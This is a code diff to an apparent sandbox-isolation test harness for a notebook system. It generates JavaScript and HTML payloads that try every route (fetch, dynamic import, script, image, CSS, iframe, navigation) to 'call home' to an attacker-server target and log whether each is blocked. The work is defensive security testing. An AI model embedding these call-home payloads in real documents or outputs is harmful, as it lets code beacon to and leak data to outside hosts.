@@ -24,14 +24,17 @@ export const pathsOf = (tag: string) => `/${tag}/`;
 
 /**
  * A JavaScript function expression `(u, L, w, tag) => Promise<Record<road, outcome>>` that
- * tries every road at once on the global scope it runs in.
+ * tries every road at once on the global scope it runs in: a worker's, or a JavaScript cell's.
+ * Each road is tried even where what it needs is absent, each inside its own try/catch, so an
+ * outcome is what the road met (`settled`, `pending`, or `blocked` with the error), marked
+ * `absent;` where the scope lacks what the road needs.
  */
 export function javascriptSuite(): string {
   const probes = ROADS.map((road) => `    [${JSON.stringify(road.name)}, ${JSON.stringify(road.needs)}, async () => { ${road.js} }],`).join('\n');
   return `(async (u, L, w, tag) => {
   const later = (ms) => new Promise((done) => setTimeout(done, ms));
   const present = (path) => {
-    let at = self;
+    let at = globalThis;
     for (const name of path) {
       if (at === null || at === undefined) return false;
       at = at[name];
@@ -42,12 +45,12 @@ export function javascriptSuite(): string {
 ${probes}
   ];
   const outcomes = await Promise.all(probes.map(async ([name, needs, run]) => {
-    if (!present(needs)) return [name, 'absent'];
+    const mark = present(needs) ? '' : 'absent; ';
     try {
       const done = await Promise.race([run().then(() => true), later(1500).then(() => false)]);
-      return [name, done ? 'settled' : 'pending'];
+      return [name, mark + (done ? 'settled' : 'pending')];
     } catch (error) {
-      return [name, 'blocked ' + String(error && error.name) + ': ' + String(error && error.message).slice(0, 120)];
+      return [name, mark + 'blocked ' + String(error && error.name) + ': ' + String(error && error.message).slice(0, 120)];
     }
   }));
   return Object.fromEntries(outcomes);
@@ -285,26 +288,32 @@ for _name, _open in [
 `;
 }
 
-/** What a JavaScript (QuickJS) cell has that could reach out: its globals, fetch and URL imports. */
+/**
+ * The worker's capabilities a JavaScript cell must not have: what each road needs first, and
+ * the rest of a worker's scope that leads out of QuickJS.
+ */
+export const CELL_CAPABILITIES: readonly string[] = [
+  ...new Set([...ROADS.flatMap((road) => road.needs.slice(0, 1)), 'WebTransport', 'SharedWorker', 'navigator', 'fonts', 'postMessage', 'self', 'location', 'Request', 'Blob', 'URL']),
+];
+
+/**
+ * A JavaScript (QuickJS) cell that prints `globals: ` and the capabilities of CELL_CAPABILITIES
+ * it has (`none` when it has none), then tries every road of the suite, the very code the bare
+ * worker escapes with, and `import()` of a specifier built at run time; each prints `probe
+ * <road>: <outcome>`.
+ */
 export function javascriptCellProbe(target: Target): string {
-  const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'FontFace', 'fonts', 'importScripts', 'Worker', 'SharedWorker', 'indexedDB', 'caches', 'BroadcastChannel', 'navigator', 'webkitRequestFileSystem', 'postMessage', 'self'];
-  return `const u = ${JSON.stringify(http(target))};
-const L = ${JSON.stringify(localhost(target))};
-console.log('globals: ' + ${JSON.stringify(names)}.filter((name) => typeof globalThis[name] !== 'undefined').join(' '));
-const probe = async (name, run) => {
-  try {
-    await run();
-    console.log('probe ' + name + ': settled');
-  } catch (error) {
-    console.log('probe ' + name + ': blocked ' + error.name + ': ' + error.message);
-  }
-};
-if (typeof fetch === 'function') await probe('fetch', () => fetch(u + '/fetch'));
-else console.log('probe fetch: absent');
-await probe('import', () => import(u + '/import.mjs'));
-await probe('import-localhost', () => import(L + '/import-localhost.mjs'));
-const specifier = [u, 'import-variable.mjs'].join('/');
-await probe('import-variable', () => import(specifier));`;
+  return `const found = ${JSON.stringify(CELL_CAPABILITIES)}.filter((name) => typeof globalThis[name] !== 'undefined');
+console.log('globals: ' + (found.length === 0 ? 'none' : found.join(' ')));
+const outcomes = await ${javascriptSuiteCall(target)};
+for (const road of Object.keys(outcomes)) console.log('probe ' + road + ': ' + outcomes[road]);
+const specifier = [${JSON.stringify(http(target))}, 'import-variable.mjs'].join('/');
+try {
+  await import(specifier);
+  console.log('probe import-variable: settled');
+} catch (error) {
+  console.log('probe import-variable: blocked ' + error.name + ': ' + error.message);
+}`;
 }
 
 /** A JavaScript cell whose static import names the attacker's server. */
@@ -315,6 +324,9 @@ export function javascriptStaticImport(target: Target): string {
 /** What HTML output could load or send: each element aims at its own path. */
 export const HTML_HITS = ['/img.png', '/style.css', '/import.css', '/background.png', '/script.js', '/inline-fetch', '/inline-image.png', '/frame.html', '/video.mp4', '/navigate'] as const;
 
+/** What the payload's inline script logs to the console first, so a test sees that it ran. */
+export const htmlRan = (tag: string) => `html payload ran: ${tag}`;
+
 /** HTML for a MIME bundle that calls home by every road an output frame has. */
 export function htmlPayload(target: Target): string {
   const u = http(target);
@@ -323,7 +335,7 @@ export function htmlPayload(target: Target): string {
     `<link rel="stylesheet" href="${u}/style.css">`,
     `<style>@import url("${u}/import.css"); div.far { background: url("${u}/background.png"); }</style><div class="far">far</div>`,
     `<script src="${u}/script.js"></script>`,
-    `<script>fetch("${u}/inline-fetch").catch(() => {}); new Image().src = "${u}/inline-image.png"; setTimeout(() => { location.href = "${u}/navigate"; }, 500);</script>`,
+    `<script>console.log(${JSON.stringify(htmlRan(target.tag))}); fetch("${u}/inline-fetch").catch(() => {}); new Image().src = "${u}/inline-image.png"; setTimeout(() => { location.href = "${u}/navigate"; }, 500);</script>`,
     `<iframe src="${u}/frame.html"></iframe>`,
     `<video src="${u}/video.mp4"></video>`,
   ].join('\n');
